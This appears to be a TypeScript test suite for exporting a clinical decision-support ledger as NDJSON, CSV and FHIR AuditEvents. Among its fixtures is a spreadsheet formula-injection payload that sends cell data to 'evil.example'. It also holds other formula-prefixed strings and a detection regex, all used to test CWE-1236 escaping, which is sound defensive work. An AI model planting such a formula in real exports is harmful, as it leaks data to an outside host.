import assert from 'node:assert/strict';
import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import type { AuditEvent } from '@medplum/fhirtypes';
import fc from 'fast-check';
import { csvLine } from '../../src/ledger/csv.ts';
import { type ExportOptions, exportEntries } from '../../src/ledger/export.ts';
import type { FeedbackRecord } from '../../src/ledger/feedback-record.ts';
import type { LedgerEntry } from '../../src/ledger/ledger.ts';
import { parseCsv } from './csv-reader.ts';
import {
  accepted,
  collect,
  decisionEntry,
  feedbackEntry,
  listSource,
  overridden,
  shown,
  suggestion,
} from './export-fixture.ts';

const decision = shown();
const silent = shown({ outcome: 'silent', cards: [] });
const purged = shown();
const formula = '=HYPERLINK("https://evil.example?"&A1,"see")';
const entries: readonly LedgerEntry[] = [
  decisionEntry(decision),
  decisionEntry(silent),
  feedbackEntry(overridden(decision.card, `${formula}, said "no"\r\nand left`), decision),
  feedbackEntry(accepted(decision.card, suggestion.uuid), decision),
  feedbackEntry(overridden('never-issued')),
  feedbackEntry(overridden(purged.card), purged),
];
const exported = (options: ExportOptions, batch?: number) =>
  collect(exportEntries(listSource(entries), options, batch));
const records = async (options: Partial<ExportOptions> = {}) =>
  (await exported({ format: 'feedback-ndjson', ...options })).map(
    (line) => JSON.parse(line) as FeedbackRecord,
  );

/** Bytes on the heap that somebody holds: garbage is collected first. */
function heldBytes(): () => number {
  setFlagsFromString('--expose-gc');
  const collect = runInNewContext('gc') as () => void;
  return () => {
    collect();
    return process.memoryUsage().heapUsed;
  };
}

describe('export', () => {
  it('feedback-ndjson: one JSON object a line, joined to its decision', async () => {
    const lines = await exported({ format: 'feedback-ndjson' });
    assert.ok(lines.every((line) => line.endsWith('\n') && line.indexOf('\n') === line.length - 1));
    const told = await records();
    assert.deepEqual(
      told.map(({ status, action, intervention }) => [status, action.outcome, intervention.decision]),
      [
        ['joined', 'overridden', decision.id],
        ['joined', 'accepted', decision.id],
      ],
    );
  });

  it('quarantined feedback goes apart, marked', async () => {
    const told = await records({ quarantined: true });
    assert.deepEqual(
      told.map(({ status, intervention }) => [status, intervention.card]),
      [
        ['quarantined', 'never-issued'],
        ['decision-purged', purged.card],
      ],
    );
  });

  it('feedback-csv: RFC 4180, a header, as many fields in every record', async () => {
    const text = (await exported({ format: 'feedback-csv', naming: 'identified' })).join('');
    const [header = [], first = [], second = [], ...more] = parseCsv(text);
    assert.deepEqual([more.length, first.length, second.length], [0, header.length, header.length]);
    const field = (row: readonly string[], name: string) => row[header.indexOf(name)];
    assert.equal(field(first, 'feedback_comment'), `'${formula}, said "no"\r\nand left`);
    assert.equal(field(first, 'feedback_reason_code'), 'not-now');
    assert.equal(field(second, 'action_suggestion_labels'), suggestion.label);
    assert.equal(field(first, 'patient'), 'arthur-58');
    assert.equal(field(first, 'location_place'), 'Ward 3');
    assert.match(field(first, 'intervention_models') ?? '', /^prevent 1\.0\.0 sha256:/);
  });

  it('audit-event: one event for each entry, quarantined feedback included', async () => {
    const events = (await exported({ format: 'audit-event', server: { name: 'x' } })).map(
      (line) => JSON.parse(line) as AuditEvent,
    );
    assert.deepEqual(
      events.map(({ action, outcome, outcomeDesc }) => `${action}${outcome} ${outcomeDesc}`),
      ['E0 show', 'E0 silent', 'C0 joined', 'C0 joined', 'C4 quarantined', 'C4 decision-purged'],
    );
  });

  it('P: nothing names a patient unless that is asked for', async () => {
    for (const format of ['feedback-ndjson', 'feedback-csv', 'audit-event'] as const)
      assert.doesNotMatch((await exported({ format })).join(''), /arthur-58|enc-7/);
  });

  it('finds the decision of feedback that came within the range, however old it is', async () => {
    const old = shown({ decidedAt: '2026-11-19T10:00:00.000Z' });
    const source = listSource([decisionEntry(old), feedbackEntry(overridden(old.card), old)]);
    const range = { from: new Date('2026-11-20T00:00:00Z'), until: new Date('2026-11-21T00:00:00Z') };
    const [line = '{}'] = await collect(exportEntries(source, { format: 'feedback-ndjson', range }));
    assert.equal((JSON.parse(line) as FeedbackRecord).intervention.decision, old.id);
  });

  it('gives the same whatever the batch, and reads the ledger once more for each', async () => {
    const many = Array.from({ length: 25 }, () => shown());
    const list = [
      ...many.map(decisionEntry),
      ...many.map((each) => feedbackEntry(overridden(each.card), each)),
    ];
    const outcomes = [];
    for (const batch of [1, 7, 25, 1000]) {
      const source = listSource(list);
      outcomes.push((await collect(exportEntries(source, { format: 'feedback-ndjson' }, batch))).join(''));
      assert.equal(source.seen.reads, 1 + Math.ceil(25 / batch));
      assert.equal(source.seen.open, 0);
    }
    assert.equal(new Set(outcomes).size, 1);
  });

  it('is lazy: who stops reading stops the ledger', async () => {
    const source = listSource(Array.from({ length: 10_000 }, () => decisionEntry(silent)));
    for await (const _ of exportEntries(source, { format: 'audit-event' })) break;
    assert.deepEqual(source.seen, { reads: 1, open: 0, given: 1 });
  });

  it('holds a bounded part in memory: 100,000 decisions and 20,000 pieces of feedback', async function () {
    this.timeout(60_000);
    const { values: _v, results: _r, outputs: _o, explanation: _e, ...lean } = shown();
    const source = {
      async *entries(): AsyncGenerator<LedgerEntry> {
        for (let at = 0; at < 100_000; at++) {
          const each = { ...lean, values: [], results: [], outputs: [], id: `d${at}` as typeof lean.id };
          yield decisionEntry(each);
          if (at % 5 === 0) yield feedbackEntry(overridden(lean.card, 'x'.repeat(500)), each);
        }
      },
    };
    const held = heldBytes();
    const before = held();
    let [count, most] = [0, 0];
    for await (const _ of exportEntries(source, { format: 'feedback-csv' }))
      if (++count % 4000 === 0) most = Math.max(most, held() - before);
    assert.equal(count, 20_001);
    assert.ok(most < 100 * 2 ** 20, `${Math.round(most / 2 ** 20)} MiB`);
  });
});

describe('csv', () => {
  const startsFormula = /^[\s\u200b\u200f\ufeff]*[=+\-@＝＋－＠]/;

  for (const text of [
    formula,
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    ' =1',
    '\r=1',
    '\n=1',
    '\u200b=1',
    '＝1',
    '\0=1',
  ])
    it(`CWE-1236: ${JSON.stringify(text)} is no formula`, () => {
      assert.match(parseCsv(csvLine([text]))[0]?.[0] ?? '', /^'/);
    });

  it('RFC 4180: whatever the fields hold, a reader finds them again', () => {
    fc.assert(
      fc.property(
        fc.array(fc.array(fc.string({ unit: 'grapheme' }), { minLength: 2, maxLength: 5 })),
        (rows) => {
          const text = rows.map(csvLine).join('');
          const read = parseCsv(text);
          assert.equal(read.length, rows.length);
          for (const [at, row] of rows.entries()) {
            assert.equal(read[at]?.length, row.length);
            for (const [place, field] of row.entries()) {
              const found: string = read[at]?.[place] ?? '';
              assert.ok(!startsFormula.test(found), found);
              const plain = field
                .toWellFormed()
                .replaceAll(/[\p{Cc}]/gu, (c) => (/[\r\n\x80-\x9f]/.test(c) ? c : ' '));
              assert.equal(found.replace(/^'/, ''), plain.replace(/^'/, ''));
            }
          }
        },
      ),
      { numRuns: 2000 },
    );
  });
});
